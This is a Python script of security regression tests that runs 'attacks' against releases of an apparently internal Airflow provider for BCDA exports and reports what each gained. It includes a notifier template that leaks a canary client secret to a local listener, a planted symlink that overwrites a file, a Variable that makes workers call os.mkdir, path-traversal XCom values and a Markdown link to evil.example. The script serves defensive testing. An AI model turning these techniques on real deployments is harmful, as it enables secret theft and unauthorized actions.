"""Attacks on permissions and privacy, for any release: each uses only what every release has, and says what it gained.

`python attacks.py FOLDER` runs all of them against the release in PYTHONPATH and in the working folder, and prints a JSON object
of name and gain; no gain is an empty text.
"""

import base64
import importlib
import io
import json
import os
import re
import sys
import threading
import time
from argparse import Namespace
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import redirect_stdout, suppress
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import yaml

WEEKLY = "bcda_weekly_export"
SECRET = "CANARY-client-secret"
MEGABYTES = 3_000_000
OURS = (OSError, ValueError, RuntimeError, KeyError)

Attack = Callable[[pytest.MonkeyPatch, Path], str]


def library(name: str, earlier: str) -> Any:
    """Return a module of the library, by the path that it has today or by the one in an earlier release."""
    try:
        return importlib.import_module(f"bcda.{name}")
    except ModuleNotFoundError:
        return importlib.import_module(f"bcda.{earlier}")


def connection(**changes: object) -> str:
    return json.dumps(
        {"conn_type": "bcda", "host": "https://bcda.example.org", "login": "a", "password": SECRET, **changes}
    )


def refused(step: Callable[[], Any]) -> None:
    """Do a step that a release may refuse with an error of its own."""
    from bcda.errors import BcdaError

    try:
        step()
    except BcdaError as error:
        print(f"refused: {error}", file=sys.stderr)


def a_failed_task() -> Any:
    from airflow.sdk.execution_time.context import ConnectionAccessor, VariableAccessor

    from bcda.errors import ServerError

    ti = SimpleNamespace(
        task_id="kick_off",
        dag_id=WEEKLY,
        run_id="r1",
        map_index=-1,
        try_number=1,
        log_url="http://airflow.example.org",
        xcom_push=lambda **_: None,
    )
    return {
        "ti": ti,
        "exception": ServerError("BCDA answers with 503."),
        "conn": ConnectionAccessor(),
        "var": {"value": VariableAccessor(deserialize_json=False)},
    }


def variable_runs_a_program(patch: pytest.MonkeyPatch, folder: Path) -> str:
    """Whoever may edit Variables, and writes no DAGs, names a function in place of a notifier."""
    from bcda_provider.notifications import notify_failed

    made = folder / "made-by-a-worker"
    patch.setenv("AIRFLOW_VAR_BCDA_NOTIFIERS", json.dumps([{"notifier": "os.mkdir", "kwargs": {"path": str(made)}}]))
    # An earlier release fails afterwards, since what was made is no notifier.
    try:
        refused(lambda: notify_failed(a_failed_task()))
    except TypeError as error:
        print(f"failed: {error}", file=sys.stderr)
    return "a worker called os.mkdir" if made.exists() else ""


class Listening:
    """A server of the attacker, which keeps the bodies that it gets."""

    def __enter__(self) -> "Listening":
        self.bodies: list[str] = []
        bodies = self.bodies

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                bodies.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
                self.send_response(200)
                self.end_headers()

            def log_message(self, *_: object) -> None:
                """Stay silent."""

        self._server = HTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_port}"


def template_sends_a_secret(patch: pytest.MonkeyPatch, folder: Path) -> str:
    """Airflow's own HTTP notifier, with a template that reads the client secret."""
    from bcda_provider.notifications import notify_failed

    arguments = {"http_conn_id": "chat", "json": {"text": "{{ conn.bcda_default.password }}"}}
    entry = {"notifier": "airflow.providers.http.notifications.http.HttpNotifier", "kwargs": arguments}
    patch.setenv("BCDA_NOTIFIERS", json.dumps([entry]))
    patch.setenv("AIRFLOW_CONN_BCDA_DEFAULT", connection())
    with Listening() as attacker:
        patch.setenv("AIRFLOW_CONN_CHAT", json.dumps({"conn_type": "http", "host": attacker.url}))
        refused(lambda: notify_failed(a_failed_task()))
    return "the client secret was sent out" if SECRET in "".join(attacker.bodies) else ""


def run_configuration_names_another_source(patch: pytest.MonkeyPatch, folder: Path) -> str:
    """Whoever may start the maintenance of one organization removes the raw files of another one."""
    from airflow.dag_processing.dagbag import DagBag

    patch.setenv("BCDA_HOME", str(folder / "home"))
    patch.setenv("BCDA_SOURCES", "bcda_default,bcda_second")
    for name in ("DEFAULT", "SECOND"):
        patch.setenv(f"AIRFLOW_CONN_BCDA_{name}", connection())
    purged: list[str] = []
    nothing = SimpleNamespace(runs=0, files=0, bytes=0)
    patch.setattr("bcda.maintenance.purge_raw", lambda here, **_: purged.append(here.raw.as_posix()) or nothing)
    dag = DagBag().dags["bcda_maintenance"]
    for task in dag.tasks:
        task.retries = 0
    dag.test(run_conf={"raw_days": 1})
    assert len(purged) == 1, "the maintenance did not run by itself"
    # A release can ignore the name, or refuse the run.
    for name in ("conn_id", "bcda_conn_id"):
        with suppress(ValueError):
            dag.test(run_conf={name: "bcda_second", "raw_days": 1})
    return "the raw files of another organization were removed" if any("bcda_second" in at for at in purged) else ""


class Guard:
    """An auth manager with a list of what one person may do, which knows the team of each DAG."""

    def __init__(self, *allowed: tuple[str, str], team: str | None = None) -> None:
        self.allowed, self.team = allowed, team

    def is_authorized_dag(self, *, method: str, details: Any, **_: object) -> bool:
        return (method, details.id) in self.allowed and (self.team is None or details.team_name == self.team)

    def is_authorized_connection(self, **_: object) -> bool:
        return False


def page(patch: pytest.MonkeyPatch, folder: Path, guard: Guard) -> Any:
    """Return a client of the page, as a person with the rights of the guard."""
    from airflow.api_fastapi.core_api.security import get_user
    from fastapi.testclient import TestClient

    from bcda_provider.page import app as module

    patch.setattr(module, "get_auth_manager", lambda: guard)
    patch.setenv("BCDA_HOME", str(folder / "home"))
    patch.setenv("BCDA_SOURCES", "bcda_default")
    patch.setenv("AIRFLOW_CONN_BCDA_DEFAULT", connection())
    patch.setitem(module.app.dependency_overrides, get_user, lambda: "someone")
    return TestClient(module.app, raise_server_exceptions=False)


def page_leaves_out_the_team(patch: pytest.MonkeyPatch, folder: Path) -> str:
    """A manager decides by team; a check without the team lets in whoever has the right in a world without teams."""
    from airflow.models.dag import DagModel

    patch.setattr(DagModel, "get_dag_id_to_team_name_mapping", lambda dags: dict.fromkeys(dags, "theirs"))

    class Teams(Guard):
        def is_authorized_dag(self, *, method: str, details: Any, **_: object) -> bool:
            # Those of the team see its DAGs; everyone sees a DAG that has none.
            return method == "GET" and details.team_name is None

    answer = page(patch, folder, Teams()).get("/")
    assert answer.status_code in {200, 403}, answer.text
    return "the page of another team's DAGs was shown" if answer.status_code == 200 else ""


def one_right_shows_three_dags(patch: pytest.MonkeyPatch, folder: Path) -> str:
    """Who may see the weekly DAG alone reads the report of a runout export."""
    client = page(patch, folder, Guard(("GET", WEEKLY)))
    from bcda_provider.page.sources_shown import places_of

    reports = places_of("bcda_default").reports
    reports.mkdir(parents=True, exist_ok=True)
    run = "20261110T060000Z-group-runout-v2-abcdef"
    (reports / f"{run}.html").write_text("<p>34 files</p>")
    return "the report of another DAG was shown" if "34 files" in client.get(f"/reports/{run}").text else ""


def server_is_shown_without_a_right(patch: pytest.MonkeyPatch, folder: Path) -> str:
    """Who may see the weekly DAG, and not the connection, reads the server's address on the page."""
    client = page(patch, folder, Guard(("GET", WEEKLY)))
    return "the server's address was shown" if "bcda.example.org" in client.get("/").text else ""


def edited_xcom_takes_the_page_away(patch: pytest.MonkeyPatch, folder: Path) -> str:
    """Whoever may edit XComs of the DAG gives the sentence of a run another form."""
    from airflow.dag_processing.dagbag import DagBag
    from airflow.models.dagrun import DagRun
    from airflow.models.xcom import XComModel
    from airflow.utils.session import create_session
    from sqlalchemy import select, update

    client = page(patch, folder, Guard(("GET", WEEKLY)))
    refuses = connection(host="http://127.0.0.1:9", extra={"max_attempts": 1, "backoff_initial_seconds": 0.01})
    patch.setenv("AIRFLOW_CONN_BCDA_DEFAULT", refuses)
    dag = DagBag().dags[WEEKLY]
    for task in dag.tasks:
        task.retries = 0
    dag.test()
    assert client.get("/").status_code == 200
    with create_session() as session:
        run = session.scalars(select(DagRun).where(DagRun.dag_id == WEEKLY)).one()
        XComModel.set(key="return_value", value="r1", dag_id=WEEKLY, task_id="plan", run_id=run.run_id, session=session)
    of_a_class = {"__classname__": "pathlib.Path", "__version__": 1, "__data__": "/"}
    for value in (7, {}, {"text": 7}, of_a_class, json.dumps(of_a_class), "../../etc/passwd", "x" * 300, "a\x00b", "["):
        with create_session() as session:
            changed: Any = session.execute(update(XComModel).where(XComModel.dag_id == WEEKLY).values(value=value))
            assert changed.rowcount
        if client.get("/").status_code >= 500:
            return "the page answers 500"
    return ""


def many_first_looks(patch: pytest.MonkeyPatch, folder: Path) -> str:
    """Eight people open the page at the same time after a load: each reads the database, though one would do."""
    kept = library("reporting.overview.kept", "overview.kept")
    read_overview = library("reporting.overview", "overview").read_overview
    places_type = library("storage.places", "places").Places

    reads: list[str] = []

    def slow(*_: Any) -> str:
        reads.append("read")
        time.sleep(0.5)
        return "figures"

    patch.setattr(kept, "identity_of", lambda *_: [1])
    patch.setattr(kept, "read_published", slow)
    places = places_type.below(folder / "home")
    with ThreadPoolExecutor(8) as pool:
        list(pool.map(lambda _: read_overview(places), range(8)))
    return f"{len(reads)} of 8 read the database" if len(reads) > 1 else ""


def key_in_clear_and_nobody_says_so(patch: pytest.MonkeyPatch, folder: Path) -> str:
    """The key is a Variable whose name Airflow does not mask; the doctor should tell."""
    from airflow.models.variable import Variable
    from airflow.utils.session import create_session

    from bcda_provider import doctor

    patch.setenv("BCDA_HOME", str(folder / "home"))
    patch.setenv("BCDA_SOURCES", "bcda_default")
    patch.setenv("AIRFLOW_CONN_BCDA_DEFAULT", connection(host="http://127.0.0.1:9"))
    patch.setenv("BCDA_ENCRYPTION_VARIABLE", "bcda_home_lock")
    with create_session() as session:
        Variable.set("bcda_home_lock", base64.b64encode(b"k" * 32).decode(), session=session)
    said = io.StringIO()
    # It ends the process with a code when it finds something.
    with redirect_stdout(said), suppress(SystemExit):
        doctor.doctor(Namespace(conn_id="bcda_default", api_version=None, verbose=False))
    # The table breaks its lines.
    return "" if "shows in clear" in " ".join(said.getvalue().split()) else "nobody is told that Airflow shows the key"


def event_of_megabytes(patch: pytest.MonkeyPatch, folder: Path) -> str:
    """The server's reason for a failed job holds megabytes, which the trigger's event carries to Airflow's database."""
    job_state = library("api.protocol", "protocol").JobState
    from bcda_provider.events import JobEvent, Outcome

    size = len(json.dumps(JobEvent("7", Outcome.ENDED, job_state.FAILED, "x" * MEGABYTES).to_json()))
    return f"an event of {size} bytes" if size > MEGABYTES / 10 else ""


def server_text_is_markdown_in_a_note(patch: pytest.MonkeyPatch, folder: Path) -> str:
    """The server's reason holds a link; Airflow shows a run's note as Markdown."""
    from airflow.models.dagrun import DagRun
    from airflow.models.xcom import XComModel
    from airflow.utils.session import create_session
    from markdown_it import MarkdownIt
    from sqlalchemy import select, update

    from bcda_provider import notes

    with create_session() as session:
        run = session.scalars(select(DagRun).where(DagRun.dag_id == WEEKLY)).first()
        assert run is not None, "no run to write a note of"
        sentence = "kick_off failed: BCDA said [free money](https://evil.example/a)"
        session.execute(
            update(XComModel).where(XComModel.dag_id == WEEKLY, XComModel.key == notes.KEY).values(value=sentence)
        )
        notes.on_dag_run_failed(run, "")
        shown = MarkdownIt("commonmark").render(str(run.note))
    assert "free money" in shown
    return "the note shows a link of the server" if "<a href" in shown else ""


def planted_link_empties_a_file(patch: pytest.MonkeyPatch, folder: Path) -> str:
    """Whoever can write in a folder plants a link under the name that the writer will use for a temporary file."""
    places = library("storage.places", "places")

    try:
        write_durably = library("storage.files", "files").write_durably
    except ImportError:
        write_durably = places.write_durably
    victim = folder / "victim"
    victim.write_text("precious")
    (folder / f".run.json.{os.getpid()}.tmp").symlink_to(victim)
    write_durably(folder / "run.json", b"{}")
    return "" if victim.read_text() == "precious" else "another file was overwritten"


def folder_that_everybody_can_write(patch: pytest.MonkeyPatch, folder: Path) -> str:
    """The home can be written by every account of the machine, so anybody can exchange claims in it."""
    from bcda import export

    patient = library("api.export_request", "export_request").Scope.PATIENT
    wish_type = library("runs.plan", "planning").Wish
    places_type = library("storage.places", "places").Places

    home = folder / "open"
    home.mkdir()
    home.chmod(0o777)
    patch.setenv("BCDA_HOME", str(home))
    from bcda.settings import ApiVersion

    wish = wish_type(api_version=ApiVersion("v2"), scope=patient, resource_types=("Patient",))
    refused(lambda: export.plan(places_type.below(home), wish, now=datetime.now(UTC)))
    return "claims would be written there" if list(home.rglob("run.json")) else ""


def compose_gives_everything_to_everybody(patch: pytest.MonkeyPatch, folder: Path) -> str:
    """Whoever takes over one container reads every secret and writes the claims."""
    services = yaml.safe_load(Path("docker-compose.yaml").read_text())["services"]
    processor = services["dag-processor"]
    secrets = {entry if isinstance(entry, str) else entry["source"] for entry in processor.get("secrets", ())}
    mounts = [str(entry) for entry in processor.get("volumes", ())]
    gained = sorted(secrets & {"broker_url", "result_backend", "jwt_secret", "api_secret_key"})
    if any("home" in mount or "bcda" in mount for mount in mounts):
        gained.append("the claims")
    return f"the DAG processor has {', '.join(gained)}" if gained else ""


ATTACKS: tuple[Attack, ...] = (
    variable_runs_a_program,
    template_sends_a_secret,
    run_configuration_names_another_source,
    page_leaves_out_the_team,
    one_right_shows_three_dags,
    server_is_shown_without_a_right,
    edited_xcom_takes_the_page_away,
    server_text_is_markdown_in_a_note,
    many_first_looks,
    key_in_clear_and_nobody_says_so,
    event_of_megabytes,
    planted_link_empties_a_file,
    folder_that_everybody_can_write,
    compose_gives_everything_to_everybody,
)


def main(folder: Path) -> None:
    """Run every attack and print what each gained."""
    from airflow.utils.db import initdb

    initdb()
    gained = {}
    for attack in ATTACKS:
        own = folder / attack.__name__
        own.mkdir()
        with pytest.MonkeyPatch.context() as patch:
            try:
                gained[attack.__name__] = attack(patch, own)
            except Exception as error:  # noqa: BLE001 - an attack that does not run is told from one that gains nothing
                gained[attack.__name__] = f"DID NOT RUN: {type(error).__name__}: {error}"
    print(re.sub(r"\s+", " ", json.dumps(gained)))


if __name__ == "__main__":
    main(Path(sys.argv[1]))
